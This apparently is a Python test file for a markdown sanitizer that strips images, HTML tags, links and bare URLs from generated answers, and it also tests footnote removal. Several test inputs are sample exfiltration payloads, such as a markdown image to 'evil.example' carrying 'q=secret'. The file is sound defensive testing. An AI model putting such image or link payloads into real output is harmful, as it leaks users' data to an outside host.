from answer.safety import LINK_REMOVED, sanitize_markdown, strip_footnotes


def test_images_and_html_are_removed():
    text = 'Fine ![x](http://evil.example/p?q=secret) text <img src="http://evil.example/a.png"> end.'
    assert sanitize_markdown(text) == "Fine  text  end."


def test_links_keep_their_text_unless_allowed():
    text = "See [the brief](http://evil.example/x) and [source](briefs/a.txt)."
    assert sanitize_markdown(text, allowed_urls=["briefs/a.txt"]) == "See the brief and [source](briefs/a.txt)."


def test_bare_urls_and_reference_definitions_go():
    text = "Visit https://evil.example/?d=1 now.\n[r]: http://evil.example/t"
    assert sanitize_markdown(text) == f"Visit {LINK_REMOVED} now.\n"


def test_plain_text_and_markers_are_untouched():
    text = "Kim launched seventy-four missiles [1]. Costs rose 5 < 6 (in 2017) [2][3]."
    assert sanitize_markdown(text) == text


def test_strip_footnotes():
    assert strip_footnotes("Cells divide [12] quickly [3, 4].") == "Cells divide quickly."
